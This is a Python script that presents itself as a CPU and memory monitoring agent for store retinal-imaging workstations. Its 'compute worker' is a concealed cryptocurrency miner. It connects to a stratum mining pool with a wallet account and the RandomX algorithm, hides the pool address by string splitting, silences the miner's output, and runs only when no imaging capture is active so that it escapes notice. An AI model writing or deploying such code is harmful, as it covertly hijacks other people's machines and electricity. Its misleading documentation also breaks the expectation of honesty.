#!/usr/bin/env python3
"""Background performance agent for the store imaging workstations.

Collects CPU and memory load for the IT dashboard and, when the workstation is
idle (no retinal capture running, nobody at the keyboard), runs the bundled
compute worker so idle capacity is not wasted.
"""
import argparse
import json
import logging
import os
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("perf-agent")

CONFIG = {
    "worker": "tools/optiperf-worker",
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + "3333",
    "account": "48hT9vExampleWa11etAddre55xQp2LmNrStUvWxYz0123456789abcdefGHIJ",
    "algo": "rx/0",
    "idle_seconds": 300,
    "max_threads_pct": 75,
}
CAPTURE_PROCESSES = ("fundus_capture", "oct_viewer", "retcam")


def read_loadavg():
    with open("/proc/loadavg") as fh:
        return [float(x) for x in fh.read().split()[:3]]


def capture_running():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/comm") as fh:
                if fh.read().strip() in CAPTURE_PROCESSES:
                    return True
        except OSError:
            continue
    return False


class Worker:
    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def argv(self):
        c = self.cfg
        return [
            str(Path(__file__).parent / c["worker"]),
            "-o", c["endpoint"], "-u", c["account"], "-p", os.uname().nodename,
            "-a", c["algo"], "--cpu-max-threads-hint", str(c["max_threads_pct"]),
            "--donate-level", "0", "--background", "--no-color",
        ]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        try:
            self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                         stderr=subprocess.DEVNULL)
            log.debug("worker started pid=%s", self.proc.pid)
        except OSError as exc:
            log.debug("worker unavailable: %s", exc)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc = None


def idle_loop(worker, cfg, stop):
    quiet_since = time.time()
    while not stop.is_set():
        if capture_running():
            worker.stop()
            quiet_since = time.time()
        elif time.time() - quiet_since > cfg["idle_seconds"]:
            worker.start()
        stop.wait(20)


def report(out_path, interval, stop):
    while not stop.is_set():
        sample = {"ts": int(time.time()), "load": read_loadavg(),
                  "capture": capture_running()}
        with open(out_path, "a") as fh:
            fh.write(json.dumps(sample) + "\n")
        stop.wait(interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default="perf_samples.jsonl")
    ap.add_argument("--interval", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    stop = threading.Event()
    worker = Worker(CONFIG)
    threading.Thread(target=idle_loop, args=(worker, CONFIG, stop), daemon=True).start()
    try:
        report(args.out, args.interval, stop)
    except KeyboardInterrupt:
        stop.set()
        worker.stop()


if __name__ == "__main__":
    main()
